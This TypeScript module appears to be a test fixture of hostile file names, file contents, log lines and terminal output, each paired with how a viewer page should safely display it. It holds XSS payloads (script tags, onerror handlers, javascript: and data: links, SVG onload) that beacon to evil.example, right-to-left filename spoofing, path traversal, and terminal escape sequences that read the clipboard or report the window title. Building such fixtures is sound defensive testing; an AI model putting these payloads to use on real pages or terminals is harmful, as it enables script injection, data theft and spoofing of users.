/** Texts that a hostile agent, or a stranger through it, puts before its owner: names, contents, log lines and terminal output. */

/** Runs if any of this ever becomes part of a page. */
const act = `window.ran=1;fetch('https://evil.example/ran')`;
const picture = 'https://evil.example/seen.png';

/** Names of files, and what the page shows of each. */
export const hostileNames: readonly (readonly [name: string, shown: string])[] = [
  [`<img src=x onerror="window.ran=1">.txt`, `<img src=x onerror="window.ran=1">.txt`],
  ['invoice\u202Efdp.exe', 'invoice⟨U+202E⟩fdp.exe'],
  ['two\nlines.txt', 'two⟨LF⟩lines.txt'],
  ['bell\u0007\u001B[31m.txt', 'bell⟨BEL⟩⟨ESC⟩[31m.txt'],
  ['..\\..\\startup.bat', '..\\..\\startup.bat'],
  ['javascript:window.ran=1', 'javascript:window.ran=1'],
];

/** Contents of files, by name. */
export const hostileFiles: Readonly<Record<string, string>> = {
  'page.html': `<!doctype html><script>${act}</script><img src="${picture}"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" onload="${act.replaceAll('"', '')}"><script>${act}</script><image xlink:href="${picture}" width="9" height="9"/><rect width="80" height="80" fill="teal"/></svg>`,
  'readme.md': [
    '# Read me',
    `![seen](${picture})`,
    '[click](javascript:window.ran=1)',
    `<script>${act}</script><img src=x onerror="window.ran=1">`,
    '<iframe src="https://evil.example"></iframe>',
    '[data](data:text/html,<script>window.ran=1</script>)',
    'the end of the page',
  ].join('\n\n'),
  'fake.png': `<html><script>${act}</script></html>`,
};

/** Lines of the log, and what the page shows of each. */
export const hostileLines: readonly (readonly [line: string, shown: string])[] = [
  [`<script>${act}</script>`, `<script>${act}</script>`],
  [`<img src="${picture}" onerror="window.ran=1">`, `<img src="${picture}" onerror="window.ran=1">`],
  ['\u001B[31mred\u001B[0m \u001B]0;title\u0007 end', 'red ⟨ESC⟩]0;title⟨BEL⟩ end'],
  ['paid to \u202Eecila\u202C account', 'paid to ⟨U+202E⟩ecila⟨U+202C⟩ account'],
  [`o${'\u0301'.repeat(200)} marks over marks`, 'marks over marks'],
];

/** Output of the terminal: each acts in some terminal, and none may here. */
export const hostileOutput: readonly string[] = [
  // The title of the window, and a question that types it into the shell.
  '\\033]0;pwned-title\\007\\033[21t',
  // The clipboard, written and asked for.
  '\\033]52;c;cHduZWQ=\\007\\033]52;c;?\\007',
  // Links of schemes that run or read something.
  '\\033]8;;javascript:window.ran=1\\007run-me\\033]8;;\\007 \\033]8;;file:///etc/passwd\\007read-me\\033]8;;\\007',
  // Tags, and an inline picture of another terminal.
  `<img src="${picture}" onerror="window.ran=1"> \\033]1337;File=inline=1;size=4:PGI+\\007`,
  // Moving and resizing the window.
  '\\033[8;2;2t\\033[3;0;0t',
];

export const hostileLink = 'https://evil.example/login?for=lodge';
